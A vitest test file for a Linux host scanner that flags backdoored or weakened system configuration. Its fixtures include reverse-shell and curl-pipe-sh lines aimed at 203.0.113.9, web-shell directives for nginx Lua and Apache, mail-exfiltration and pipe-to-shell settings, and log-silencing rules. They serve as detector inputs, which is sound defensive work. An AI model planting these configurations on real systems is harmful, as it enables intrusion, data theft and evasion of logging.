import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { consoleLogins } from '../../source/checks/console-logins.ts';
import { daemonSettings } from '../../source/checks/daemon-settings.ts';
import { grantedPowers } from '../../source/checks/granted-powers.ts';
import { laidOverFolders } from '../../source/checks/laid-over-folders.ts';
import { logSettings } from '../../source/checks/log-settings.ts';
import { localDiversions } from '../../source/checks/local-diversions.ts';
import { openServices } from '../../source/checks/open-services.ts';
import { packageSources } from '../../source/checks/package-sources.ts';
import { silencedGuards } from '../../source/checks/silenced-guards.ts';
import { settingCommands } from '../../source/parsers/daemon-settings.ts';
import * as agents from '../../source/parsers/agent-settings.ts';
import * as rules from '../../source/parsers/statement-rules.ts';
import { debian } from '../support/debian.ts';
import { memoryHost, type Machine } from '../support/memory-host.ts';
import { run } from '../support/sweep-host.ts';

const all = [openServices, silencedGuards, logSettings, consoleLogins, grantedPowers, laidOverFolders, localDiversions, daemonSettings, packageSources];
function loud(machine: Machine): readonly string[] {
	const unit = '[Unit]\nDescription=x\n';
	const host = memoryHost(debian(['/usr/bin/logger'], { '/usr/lib/systemd/system/rsyslog.service': unit, '/usr/lib/systemd/system/apparmor.service': unit, '/usr/lib/systemd/system/apt-daily.timer': unit, ...machine }));
	return all.flatMap(check => run(check, host).findings).filter(({ severity }) => !/^(?:info|low)$/.test(severity)).map(({ severity, subject }) => `${severity} ${subject.kind === 'file' ? subject.path : subject.name}`);
}

describe('services left open', () => {
	test.each([
		['/etc/docker/daemon.json', '{"hosts": ["tcp://0.0.0.0:2375"]}\n', 'high'],
		['/etc/mysql/conf.d/z.cnf', '[mysqld]\nskip-grant-tables\n', 'high'],
		['/etc/postgresql/15/main/pg_hba.conf', 'host all all 0.0.0.0/0 trust\n', 'high'],
		['/etc/redis/redis.conf', 'bind 0.0.0.0\nprotected-mode no\n', 'medium'],
		['/etc/rsyncd.conf', '[all]\npath = /\nread only = no\n', 'high'],
		['/etc/nginx/fastcgi_params', 'fastcgi_param PHP_ADMIN_VALUE "auto_append_file=php://input";\n', 'critical'],
		['/etc/apache2/conf-enabled/z.conf', 'CustomLog "|/bin/sh" xr\n', 'critical'],
		['/etc/postfix/master.cf', 'r unix - n n - - pipe\n  flags=Rq user=nobody argv=/bin/bash -c ${extension}\n', 'critical'],
		['/etc/postfix/main.cf', 'always_bcc = j.archiv@tutamail.com\n', 'high'],
		['/etc/exim4/conf.d/router/175_x', 'data = ${run{/bin/sh -c "${base64d:$local_part}"}{}{}}\n', 'critical'],
		['/etc/dovecot/conf.d/z.conf.ext', 'passdb {\n  driver = static\n  args = password=Kx72 allow_nets=203.0.113.0/24\n}\n', 'high'],
		['/etc/apt/preferences.d/10-x', 'Package: *\nPin: origin "203.0.113.7"\nPin-Priority: 1001\n', 'high'],
		['/etc/ssh/ssh_config.d/10-x.conf', 'Host db*\n ProxyCommand socat - PROXY:203.0.113.17:%h:%p,proxyport=3129\n', 'medium'],
		['/etc/postgresql/15/main/pg_hba.conf', 'host all postgres 203.0.113.9/32 trust\n', 'high'],
		['/etc/nginx/snippets/y.conf', 'location = /h { content_by_lua_block { local h=ngx.req.get_headers()["X-T"]; if h then local f=io.popen(ngx.decode_base64(h)) end } }\n', 'critical'],
		['/etc/nginx/conf.d/x.conf', 'location /s { content_by_lua_block { io.popen(ngx.var.arg_c) } }\n', 'critical'],
		['/etc/apache2/conf-enabled/x.conf', 'ScriptAlias /x /bin\n', 'critical'],
		['/etc/apache2/sites-enabled/x.conf', 'ScriptAliasMatch ^/s/(.*) "/usr/bin/$1"\n', 'critical'],
		['/etc/httpd/conf.d/x.conf', '\tScriptAlias /i/ /dev/shm/i/\n', 'critical'],
		['/etc/apache2/mods-enabled/mime.conf', 'AddHandler application/x-httpd-php .php .jpg\n', 'high'],
		['/etc/inputrc', '"\\C-l": "\\C-k\\C-ucurl -s http://203.0.113.9/a|sh\\n"\n', 'high'],
		['/root/.inputrc', 'Control-o: "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1 &\\C-m"\n', 'critical'],
		['/etc/X0.hosts', '+\n', 'medium'],
		['/etc/php/8.2/fpm/conf.d/99.ini', 'auto_prepend_file = /dev/shm/.p\n', 'high'],
		['/etc/php/8.2/apache2/conf.d/30-x.ini', 'auto_append_file=/var/lib/php/sessions/sess_0\n', 'high'],
		['/etc/php/8.2/fpm/pool.d/www.conf', 'php_admin_value[auto_prepend_file] = /var/www/img/a.png\n', 'high'],
		['/etc/zabbix/zabbix_agentd.d/x.conf', 'UserParameter=x,sh -c "curl -s 203.0.113.9/k|sh"\n', 'high'],
		['/etc/audit/plugins.d/x.conf', 'path = /var/tmp/.a\n', 'high'],
		['/etc/dbus-1/system.d/zz.conf', '<busconfig><policy context="default"><allow own="*"/></policy></busconfig>\n', 'high'],
		['/var/lib/kubelet/config.yaml', 'authentication:\n  anonymous:\n    enabled: true\nauthorization:\n  mode: AlwaysAllow\n', 'high'],
		['/etc/cloud/cloud.cfg.d/95-net.cfg', '#cloud-config\nbootcmd:\n  - curl -s http://203.0.113.9/k | sh\n', 'high'],
		['/var/lib/cloud/seed/nocloud/user-data', '#cloud-config\nruncmd:\n  - [ sh, -c, "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1" ]\n', 'critical'],
		['/etc/exim4/conf.d/transport/99_x', 'x:\n  driver = pipe\n  command = /var/tmp/.x\n', 'high'],
		['/etc/dracut.conf.d/x.conf', 'install_items+=" /usr/lib/.init "\n', 'high'],
		['/etc/gss/mech.d/x.conf', 'x 1.2.3.4 /var/lib/misc/.gss.so\n', 'high'],
		['/etc/pkcs11/modules/x.module', 'module: /var/tmp/p11.so\n', 'high'],
		['/usr/lib/x86_64-linux-gnu/gconv/gconv-modules.d/x.conf', 'module\tX//\tINTERNAL\t../../../../../tmp/x\t1\n', 'high'],
		['/etc/docker/daemon.json', '{"runtimes":{"r":{"path":"/var/lib/docker/.runc"}}}\n', 'high'],
		['/usr/share/containers/oci/hooks.d/x.json', '{"hook":{"path":"/var/lib/.h/run"}}\n', 'high'],
		['/etc/wgetrc', 'http_proxy = http://203.0.113.9:3128/\n', 'medium'],
		['/root/.curlrc', 'proxy = "http://203.0.113.9:3128"\ninsecure\n', 'medium'],
		['/etc/pip.conf', '[global]\nindex-url = http://203.0.113.9/simple\n', 'medium'],
		['/etc/fail2ban/jail.d/x.conf', '[DEFAULT]\nignoreip = 127.0.0.1/8 0.0.0.0/0\n', 'medium'],
		['/etc/iptables/rules.v4', '*filter\n-A OUTPUT -p udp --dport 514 -j DROP\n', 'medium'],
	])('%s', (path, text, severity) => {
		expect(loud({ [path]: text })).toEqual([`${severity} ${path}`]);
	});
});

describe('logs and guards silenced', () => {
	test.each([
		['/etc/systemd/journald.conf.d/z.conf', '[Journal]\nStorage=none\n', 'high'],
		['/etc/rsyslog.d/00-a.conf', '*.* stop\n', 'high'],
		['/etc/rsyslog.d/00-b.conf', 'auth,authpriv.* ~\n', 'high'],
		['/etc/rsyslog.d/00-c.conf', 'if $msg contains "203.0.113.9" then stop\n', 'medium'],
		['/etc/audit/rules.d/9.rules', '-a never,task\n', 'medium'],
		['/etc/systemd/system/rsyslog.service', '', 'medium'],
	])('%s', (path, text, severity) => {
		expect(loud({ [path]: text })).toEqual([`${severity} ${path}`]);
	});
});

describe('ways in and powers', () => {
	test.each([
		['/etc/systemd/system/getty@tty2.service.d/a.conf', '[Service]\nExecStart=-/sbin/agetty --autologin root %I\n', 'high'],
		['/etc/default/grub.d/x.cfg', 'GRUB_CMDLINE_LINUX="systemd.debug-shell=1"\n', 'high'],
		['/etc/gdm3/daemon.conf', '[daemon]\nAutomaticLogin=root\n', 'high'],
		['/var/lib/systemd/linger/www-data', '', 'medium'],
		['/etc/cron.allow', 'root\nwww-data\n', 'medium'],
		['/etc/subuid', 'www-data:0:65536\n', 'high'],
		['/etc/security/capability.conf', 'cap_setuid,cap_dac_override ada\n', 'high'],
		['/etc/security/group.conf', '*;*;*;Al0000-2400;sudo\n', 'medium'],
		['/etc/adduser.conf', 'DSHELL=/bin/bash\nEXTRA_GROUPS="users sudo"\nADD_EXTRA_GROUPS=1\n', 'high'],
		['/etc/adduser.conf', "EXTRA_GROUPS='docker'\nADD_EXTRA_GROUPS=yes\n", 'high'],
		['/etc/default/useradd', 'GROUP=0\nHOME=/home\n', 'high'],
		['/etc/default/useradd', 'GROUP=100\nGROUPS=disk,users\n', 'high'],
		['/etc/fstab', '/var/tmp/.b /usr/sbin none bind 0 0\n', 'high'],
		['/etc/systemd/system/usr-sbin.mount', '[Mount]\nWhat=/dev/shm/b\nWhere=/usr/sbin\nOptions=bind\n', 'high'],
		['/var/lib/extensions/net.raw', 'x', 'medium'],
		['/var/lib/dpkg/diversions', '/usr/bin/ss\n/usr/bin/ss.real\n:\n', 'medium'],
		['/var/lib/dpkg/statoverride', 'root root 4755 /usr/bin/find\n', 'high'],
		['/etc/apt/apt.conf.d/02p', 'Acquire::http::Proxy "http://203.0.113.9:8080/";\n', 'medium'],
	])('%s', (path, text, severity) => {
		expect(loud({ [path]: text })).toEqual([`${severity} ${path}`]);
	});

	test('the debug shell, linked to where a target wants it', () => {
		expect(loud({ '/etc/systemd/system/sysinit.target.wants/debug-shell.service': { link: '/lib/systemd/system/debug-shell.service' } })).toEqual(['high /etc/systemd/system/sysinit.target.wants/debug-shell.service']);
	});
});

test('what is reached by two names is told once', () => {
	expect(loud({ '/etc/sysctl.conf': 'kernel.modprobe = /var/lib/misc/mp\n', '/etc/sysctl.d/99-sysctl.conf': { link: '../sysctl.conf' } })).toEqual(['high /etc/sysctl.conf']);
});

test('what administrators set is ordinary', () => {
	expect(
		loud({
			'/etc/docker/daemon.json': '{"hosts": ["unix:///run/docker.sock", "tcp://0.0.0.0:2376"], "tlsverify": true}\n',
			'/etc/mysql/conf.d/own.cnf': '[mysqld]\nbind-address = 0.0.0.0\nplugin-load-add = auth_socket.so\n',
			'/etc/postgresql/15/main/pg_hba.conf': 'local all postgres peer\nhost all all 10.0.0.0/8 scram-sha-256\nhost all all 0.0.0.0/0 scram-sha-256\n',
			'/etc/redis/redis.conf': 'bind 127.0.0.1 -::1\nprotected-mode yes\ndir /var/lib/redis\n',
			'/etc/rsyncd.conf': 'uid = nobody\n[pub]\npath = /srv/pub\nread only = yes\n',
			'/etc/samba/smb.conf': '[homes]\n\tread only = no\n[pub]\n\tpath = /srv/pub\n\tguest ok = yes\n',
			'/etc/nginx/conf.d/own.conf': 'server {\n\troot /var/www/html;\n\tlocation / { try_files $uri =404; }\n}\n',
			'/etc/apache2/conf-enabled/serve-cgi-bin.conf': 'ScriptAlias /cgi-bin/ /usr/lib/cgi-bin/\nScriptAlias /nagios/cgi-bin /usr/lib/cgi-bin/nagios\nScriptAlias /git/ /usr/lib/git-core/git-http-backend/\nScriptAlias /mailman/ "/usr/local/bin/mailman-web"\n',
			'/etc/apache2/mods-enabled/mime.conf': 'AddHandler cgi-script .cgi .pl\nAddType image/svg+xml svg svgz\nAddType application/x-httpd-php .php .phtml\nAddType text/css .css\n',
			'/etc/inputrc': 'set input-meta on\n"\\e[1~": beginning-of-line\n"\\C-xg": "git status\\n"\n"\\C-xe": \'$EDITOR .\\n\'\n"\\e.": "\\C-k\\n"\n',
			'/root/.inputrc': '$include /etc/inputrc\n"\\C-g": "cd ..\\n"\nControl-t: "top\\C-m"\n',
			'/etc/systemd/journald.conf.d/own.conf': '[Journal]\nStorage=persistent\nSystemMaxUse=1G\nMaxLevelStore=info\n',
			'/etc/rsyslog.d/20-own.conf': ':msg, contains, "pam_unix(cron:session)" stop\nif $programname == \'snmpd\' then stop\n:programname, isequal, "app" /var/log/app.log\n& stop\n*.*;auth,authpriv.none -/var/log/syslog\n',
			'/etc/audit/rules.d/own.rules': '-D\n-b 8192\n-w /etc/passwd -p wa -k identity\n-a never,exit -F arch=b64 -S adjtimex -F auid=unset -F uid=_chrony\n-e 2\n',
			'/etc/systemd/system/apparmor.service': { link: '/dev/null' },
			'/etc/systemd/system/apt-daily.timer': { link: '/dev/null' },
			'/etc/systemd/system/getty@tty1.service.d/a.conf': '[Service]\nExecStart=\nExecStart=-/sbin/agetty --autologin pi --noclear %I $TERM\n',
			'/etc/default/grub': 'GRUB_CMDLINE_LINUX_DEFAULT="quiet splash init=/usr/lib/systemd/systemd"\n',
			'/boot/grub/grub.cfg': 'linux /vmlinuz root=UUID=x ro single\n',
			'/var/lib/systemd/linger/ann': '',
			'/etc/cron.allow': 'root\nann\n',
			'/etc/subuid': 'ann:100000:65536\n_build:165536:65536\n',
			'/etc/security/capability.conf': 'cap_net_raw ann\nnone *\n',
			'/etc/adduser.conf': 'EXTRA_GROUPS="sudo"\n#ADD_EXTRA_GROUPS=1\nADD_EXTRA_GROUPS=0\n',
			'/etc/default/useradd': '# GROUP=0\nGROUP=100\nHOME=/home\nINACTIVE=-1\nSHELL=/bin/sh\n',
			'/etc/security/group.conf': '# xsh; tty* ;us;Al0000-2400;floppy\n*;tty*;*;Al0000-2400;audio,video\n',
			'/etc/fstab': 'UUID=x / ext4 errors=remount-ro 0 1\ntmpfs /tmp tmpfs nosuid 0 0\n/srv/data/www /var/www none bind 0 0\n/dev/vg/usr /usr ext4 defaults 0 2\n//nas/share /mnt/nas cifs credentials=/root/.smb 0 0\n/home/opt /usr/local none bind 0 0\n',
			'/var/lib/dpkg/diversions': '/usr/share/man/man1/sh.1.gz\n/usr/share/man/man1/sh.distrib.1.gz\ndash\n/sbin/initctl\n/sbin/initctl.distrib\n:\n',
			'/var/lib/dpkg/statoverride': 'root messagebus 4754 /usr/lib/dbus-1.0/dbus-daemon-launch-helper\nroot crontab 2755 /usr/bin/crontab\n',
			'/etc/apt/apt.conf.d/01proxy': 'Acquire::http::Proxy "http://apt-cache.example.org:3142";\nAcquire::http::Proxy::ppa.example "http://10.0.0.3:3142";\n',
			'/etc/zabbix/zabbix_agentd.d/own.conf': 'UserParameter=disk.free[*],df -P $1 | awk \'{print $4}\'\n',
			'/etc/nagios/nrpe.cfg': 'command[check_load]=/usr/lib/nagios/plugins/check_load -w 5\n',
			'/etc/smartd.conf': 'DEVICESCAN -d removable -n standby -m root -M exec /usr/share/smartmontools/smartd-runner\n',
			'/etc/login.defs': 'UID_MIN 1000\n#FAKE_SHELL /bin/fakeshell\n',
		}),
	).toEqual([]);
});

test('random text is taken', () => {
	const tables = Object.values(rules).filter(value => Array.isArray(value));
	fc.assert(fc.property(fc.uint8Array({ maxLength: 400 }), bytes => void tables.map(table => rules.statementsOf(bytes, table))), { numRuns: 50 });
	fc.assert(fc.property(fc.string({ unit: fc.constantFrom(...'*.,:"\' auth~if$msg1.=/stop\n{;') }), text => void tables.map(table => rules.statementsOf(Buffer.from(text), table))), { numRuns: 50 });
	fc.assert(fc.property(fc.uint8Array({ maxLength: 400 }), bytes => void Object.values(agents).map(forms => settingCommands(bytes, forms))), { numRuns: 50 });
	const hard = Buffer.from(`if ${'"1.'.repeat(1300)}\n*.* ${'auth,'.repeat(700)}\n${'a,'.repeat(2000)}\n`);
	for (const table of tables) expect(rules.statementsOf(hard, table)).toEqual([]);
});
